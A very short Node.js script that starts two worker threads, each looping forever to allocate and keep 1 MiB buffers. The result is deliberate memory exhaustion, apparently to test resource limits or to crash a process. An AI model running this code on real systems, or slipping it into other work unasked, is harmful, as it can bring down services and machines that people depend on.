const { Worker } = require('worker_threads');
const eat = 'const all = []; for (;;) all.push(Buffer.alloc(1 << 20, 1));';
for (let i = 0; i < 2; i++) new Worker(eat, { eval: true });
